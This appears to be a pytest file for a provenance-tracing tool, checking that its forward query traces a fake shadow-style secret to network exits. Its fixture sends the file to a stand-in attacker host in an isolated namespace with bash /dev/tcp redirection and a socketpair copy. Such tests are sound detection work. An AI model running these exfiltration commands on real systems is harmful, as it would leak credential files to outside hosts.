# SPDX-License-Identifier: MIT
"""
A secret leaves the host, by hand over a pipe and as scp does it over a socketpair, to a machine
that is another network namespace here. Forward from the secret both end in exits, and whoever read
it and kept it is left out.
"""

import shutil
import subprocess
import sys

import pytest

import lemona
from conftest import ATTACKER, make_place

HOST, PORT = "203.0.113.10", "4443"

# Takes so many connections to their end.
LISTEN = f"""
import socket, sys
listener = socket.create_server(("{ATTACKER}", {PORT}))
print("ready", flush=True)
for _ in range(int(sys.argv[1])):
    connection, _ = listener.accept()
    while connection.recv(65536):
        pass
    connection.close()
"""

# As scp: one process reads, another one that it started talks to the network.
COPY = f"""
import socket, subprocess, sys
near, far = socket.socketpair()
carrier = subprocess.Popen(["bash", "-c", "cat > /dev/tcp/{ATTACKER}/{PORT}"], stdin=far)
far.close()
near.sendall(open(sys.argv[1], "rb").read())
near.close()
sys.exit(carrier.wait())
"""


class Wire:
    """Two network namespaces joined by a cable: the host's, and the attacker's."""

    def __enter__(self):
        self.ends = [lemona.Step("unshare", "--net", "sh", "-c",
                                 "ip link set lo up && echo ready && exec cat") for _ in range(2)]
        for end in self.ends:
            end.__enter__()
        near, far = (end.pid for end in self.ends)
        for command in (
                f"nsenter --net=/proc/{near}/ns/net ip link add w0 type veth peer name w1 netns {far}",
                f"nsenter --net=/proc/{near}/ns/net ip addr add {HOST}/24 dev w0",
                f"nsenter --net=/proc/{near}/ns/net ip link set w0 up",
                f"nsenter --net=/proc/{far}/ns/net ip addr add {ATTACKER}/24 dev w1",
                f"nsenter --net=/proc/{far}/ns/net ip link set w1 up"):
            subprocess.run(command.split(), check=True, timeout=lemona.LIMIT_SECONDS)
        self.host, self.attacker = ((("nsenter", f"--net=/proc/{pid}/ns/net")) for pid in (near, far))
        return self

    def __exit__(self, *exception):
        for end in self.ends:
            end.__exit__(*exception)


class Leaks:
    def __init__(self, place):
        self.log, self.secret = place / "log", place / "shadow"
        self.pids = {}

    def run(self, who, *command, prefix=()):
        process = subprocess.Popen([*prefix, *map(str, command)], stdin=subprocess.DEVNULL,
                                   stdout=subprocess.DEVNULL)
        assert process.wait(timeout=lemona.LIMIT_SECONDS) == 0, who
        self.pids[who] = process.pid

    def play(self, wire):
        self.secret.write_text("root:$y$j9T$secret:20000:0:99999:7:::\n" * 20)
        with lemona.Recording(self.log):
            with lemona.Step(*wire.attacker, sys.executable, "-c", LISTEN, "2",
                             stdin=subprocess.DEVNULL) as listener:
                self.run("reader", "grep", "-q", "root", self.secret)
                self.run("pipe", "bash", "-c",
                         f"cat {self.secret} | cat > /dev/tcp/{ATTACKER}/{PORT}",
                         prefix=wire.host)
                self.run("copy", sys.executable, "-c", COPY, self.secret, prefix=wire.host)
                assert listener.process.wait(timeout=lemona.LIMIT_SECONDS) == 0


@pytest.fixture(scope="module")
def leaks():
    place = make_place(None)
    made = Leaks(place)
    with Wire() as wire:
        made.play(wire)
    yield made
    shutil.rmtree(place)


def ask(leaks, *options):
    return lemona.ask_exact("forward", leaks.log, "--from", f"file:{leaks.secret}", *options)


def pids_of(answer):
    return {node["pid"] for node in lemona.nodes(answer, kind="process")}


def test_both_leaks_end_in_exits(leaks):
    answer = ask(leaks)
    exits = [node for node in answer["nodes"] if node["exit"]]
    assert {node["remote"] for node in exits} == {f"{ATTACKER}:{PORT}"} and len(exits) == 2, exits
    secret = lemona.nodes(answer, kind="file", path=str(leaks.secret))
    for node in exits:
        assert lemona.find_path(answer, secret, [node]), f"no way from the secret to {node}"
        sent = [edge["bytes"] for edge in answer["edges"] if edge["to"] == node["id"]]
        assert leaks.secret.stat().st_size in sent, sent
    assert leaks.pids["copy"] in pids_of(answer)


def test_readers_that_kept_it_are_left_out(leaks):
    answer = ask(leaks)
    assert leaks.pids["reader"] not in pids_of(answer)
    hidden = {entry["filter"]: entry for entry in answer["hidden"]}
    assert hidden["no-exit"]["objects"] >= 1 and hidden["no-exit"]["events"] >= 1
    assert leaks.pids["reader"] in pids_of(ask(leaks, "--no-filter", "no-exit"))


def test_the_story_and_the_picture_mark_them(leaks):
    for form, mark in (("text", "<- exit"), ("dot", "\\nexit")):
        text = lemona.run("forward", leaks.log, "--from", f"file:{leaks.secret}", "--format",
                          form).stdout
        assert mark in text and ATTACKER in text


def test_one_path_is_one_whole_leak(leaks):
    answer = ask(leaks, "--top", "1")
    assert answer["shown"]["paths"] == 1
    exits = [node for node in answer["nodes"] if node["exit"]]
    secret = lemona.nodes(answer, kind="file", path=str(leaks.secret))
    assert len(exits) == 1 and lemona.find_path(answer, secret, exits)
